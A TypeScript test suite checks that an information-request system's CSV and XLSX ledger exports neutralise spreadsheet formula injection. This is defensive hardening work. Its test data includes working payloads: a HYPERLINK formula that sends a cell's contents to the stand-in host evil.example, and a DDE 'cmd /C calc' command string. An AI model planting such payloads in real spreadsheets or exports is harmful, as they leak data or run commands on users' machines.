import assert from 'node:assert/strict';
import request from 'supertest';
import ExcelJS from 'exceljs';
import { applicationBody, arrayBufferOf, createTestEnv, type TestEnv } from '../helpers/test-app.js';
import { parseCsv } from '../helpers/csv.js';
import { settleExportJobs } from '../../server/reports/export-jobs.js';
import { csvSink, LEDGER_COLUMNS } from '../../server/reports/annual-ledger.js';

// Hardening finding 6: text people typed must never reach a spreadsheet as a formula. Each CSV is
// read back as a spreadsheet program would split it; a neutralised cell starts with a single quote.

const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};


const DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

describe('CSV cells that a spreadsheet would run as formulas are neutralised (hardening 6)', function () {
  this.timeout(60_000);

  it('a ledger cell beginning with = + - @, a tab or a CR reads back as text with a leading quote', async () => {
    const sink = csvSink('台账');
    for (const text of DANGEROUS) sink.line([1, text, '东江区规划和自然资源局', -1]);
    const rows = parseCsv((await sink.finish()).toString('utf8').slice(1));
    const cells = rows.slice(2).map((r) => r[1]);
    assert.deepEqual(cells, DANGEROUS.map((t) => `'${t}`));
    assert.deepEqual(rows.slice(2).map((r) => r.length), DANGEROUS.map(() => 4), 'quotes and commas inside stay in their field');
    assert.deepEqual(rows.slice(2).map((r) => r[2]), DANGEROUS.map(() => '东江区规划和自然资源局'), 'ordinary text is untouched');
    assert.deepEqual(rows.slice(2).map((r) => r[3]), DANGEROUS.map(() => '-1'), 'numbers stay numbers');
  });

  describe('through the year\'s ledger export', () => {
    let env: TestEnv;
    let token: string;
    const names = ['=1+2', '+1+2', '-1+2', '@SUM(1,2)'];
    const description = '=HYPERLINK("http://evil.example","点此")';

    before(async () => {
      env = await createTestEnv({ today: '2026-11-20' });
      const cw = await env.token('cw');
      token = await env.token('mgr');
      for (const name of names) {
        const body = applicationBody({ receivedDate: '2026-03-02', request: { description } });
        (body.applicant as Record<string, unknown>).name = name;
        const res = await request(env.app).post('/api/applications').set('Authorization', `Bearer ${cw}`).send(body);
        assert.equal(res.status, 201, JSON.stringify(res.body));
      }
    });
    after(async () => {
      await settleExportJobs(env.ctx);
      await env.close();
    });

    const exportFile = async (format: 'csv' | 'xlsx') => {
      const started = await request(env.app).post('/api/reports/exports').set('Authorization', `Bearer ${token}`).send({ kind: 'annual_ledger', year: 2026, agency: 'GHZY', format });
      assert.equal(started.status, 202, JSON.stringify(started.body));
      await settleExportJobs(env.ctx);
      const job = await request(env.app).get(`/api/reports/exports/${started.body.id}`).set('Authorization', `Bearer ${token}`);
      assert.equal(job.body.status, 'done', JSON.stringify(job.body));
      const file = await request(env.app).get(job.body.fileUrl).set('Authorization', `Bearer ${token}`).buffer(true).parse(binary);
      assert.equal(file.status, 200);
      return file.body as Buffer;
    };

    it('CSV: applicants\' names and request descriptions come back as text', async () => {
      const rows = parseCsv((await exportFile('csv')).toString('utf8').slice(1));
      const name = LEDGER_COLUMNS.indexOf('申请人');
      const desc = LEDGER_COLUMNS.indexOf('所需信息');
      const lines = rows.slice(2);
      assert.deepEqual(lines.map((l) => l[name]), names.map((n) => `'${n}`));
      assert.deepEqual(lines.map((l) => l[desc]), names.map(() => `'${description}`));
    });

    it('XLSX: the same cells are plain strings, never formulas', async () => {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(arrayBufferOf(await exportFile('xlsx')));
      const ws = wb.getWorksheet('办理台账')!;
      const name = LEDGER_COLUMNS.indexOf('申请人') + 1;
      const desc = LEDGER_COLUMNS.indexOf('所需信息') + 1;
      const seen: string[] = [];
      for (let r = 3; r <= ws.rowCount; r++) {
        for (const c of [name, desc]) {
          const cell = ws.getCell(r, c);
          assert.equal(cell.type, ExcelJS.ValueType.String, `row ${r} column ${c} is a string cell`);
          assert.equal(cell.formula, undefined);
        }
        seen.push(String(ws.getCell(r, name).value));
      }
      assert.deepEqual(seen, names, 'an XLSX string cell is text already: written as typed');
    });
  });
});
